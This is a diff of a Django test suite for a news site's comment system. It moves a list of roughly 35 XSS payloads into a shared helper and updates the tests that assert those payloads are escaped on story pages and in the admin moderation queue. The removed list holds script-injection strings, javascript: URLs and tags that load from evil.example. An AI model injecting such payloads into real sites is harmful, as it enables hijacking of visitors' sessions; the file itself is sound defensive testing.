@@ -12,48 +12,10 @@ from comments.models import Ban, Comment, Report
 from comments.notifications import send_pending_digest
 from comments.services import comments_set_status
 from core.readers import ip_hash
-from tests.comments.conftest import post_review, review_data
 from tests.factories import ArticleFactory, CommentFactory
+from tests.helpers import XSS_PAYLOADS, post_review, review_data
 
 pytestmark = pytest.mark.django_db
-
-XSS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<IMG SRC=javascript:alert('XSS')>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<body onload=alert(1)>",
-    '<a href="javascript:alert(1)">click</a>',
-    '<a href="jav&#x0D;ascript:alert(1)">click</a>',
-    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
-    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>data</a>",
-    '<iframe src="javascript:alert(1)"></iframe>',
-    '<object data="javascript:alert(1)"></object>',
-    '<embed src="javascript:alert(1)">',
-    '<div style="background:url(javascript:alert(1))">',
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    '"><script>alert(1)</script>',
-    "'><img src=x onerror=alert(1)>",
-    "</textarea><script>alert(1)</script>",
-    "</p><script>alert(1)</script><p>",
-    "<scr<script>ipt>alert(1)</script>",
-    "<img src=x onerror=alert(1)//",
-    "<<script>alert(1);//<</script>",
-    "<svg/onload=alert(1)",
-    '<a href="  javascript:alert(1)">spaces</a>',
-    '<form action="javascript:alert(1)"><button>x</button></form>',
-    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    "{{ request }}{% debug %}",
-    "javascript:alert(document.cookie)",
-    '<base href="//evil.example/">',
-]
 
 
 class AttributeAudit(HTMLParser):
@@ -68,7 +30,7 @@ class AttributeAudit(HTMLParser):
             self.problems.append(tag)
         if tag == "meta" and any(name == "http-equiv" for name, _v in attrs):
             self.problems.append("meta refresh")
-        # JSON-LD blocks are data, never run (their escaping is tested in test_standards).
+        # JSON-LD blocks are data, never run (their escaping: articles/test_structured_data).
         executable = dict(attrs).get("type") != "application/ld+json"
         if tag == "script" and not dict(attrs).get("src") and executable:
             self.problems.append("inline script")
@@ -86,24 +48,24 @@ class AttributeAudit(HTMLParser):
 @pytest.fixture
 def posted_corpus(client):
     story = ArticleFactory(comments_mode="open")
-    for n, payload in enumerate(XSS):
+    for n, payload in enumerate(XSS_PAYLOADS):
         response = post_review(
             client, story, author_name=payload[:80], email=f"x{n}@example.com", body=payload
         )
         assert response.status_code == 302, payload
     comments_set_status(comments=Comment.objects.all(), status=Comment.Status.APPROVED)
-    assert Comment.objects.visible().count() == len(XSS)
+    assert Comment.objects.visible().count() == len(XSS_PAYLOADS)
     return story
 
 
 def test_corpus_is_at_least_thirty_payloads():
-    assert len(XSS) >= 30
+    assert len(XSS_PAYLOADS) >= 30
 
 
 def test_xss_corpus_is_escaped_on_the_story_page(client, posted_corpus, settings):
     settings.COMMENTS_PER_PAGE = 100
     html = client.get(posted_corpus.get_absolute_url()).content.decode()
-    for payload in XSS:
+    for payload in XSS_PAYLOADS:
         assert escape(payload) in html, payload
         if any(char in payload for char in "<>\"'"):
             assert payload not in html, payload
@@ -116,11 +78,11 @@ def test_xss_corpus_is_escaped_in_the_admin_queue(client, posted_corpus, moderat
     client.force_login(moderator)
     html = client.get(reverse("admin:comments_comment_changelist") + "?queue=approved").content
     html = html.decode()
-    for payload in XSS:
+    for payload in XSS_PAYLOADS:
         assert escape(payload) in html, payload
         if "<" in payload:
             assert payload not in html, payload
-    review = Comment.objects.get(body=XSS[0])
+    review = Comment.objects.get(body=XSS_PAYLOADS[0])
     change = client.get(reverse("admin:comments_comment_change", args=[review.pk])).content
     assert b"<script>alert(1)</script>" not in change
 
@@ -168,7 +130,7 @@ def test_a_name_with_a_header_injection_never_reaches_a_mail_header(
         headers = message.message().as_string().split("\n\n", 1)[0]
         assert "victim" not in headers and "Eve" not in headers and "pwned" not in headers
         assert message.bcc == []
-        assert message.to == ["mod@newsroom.example"]
+        assert message.to == ["mona@newsroom.example"]
 
 
 @pytest.mark.parametrize(
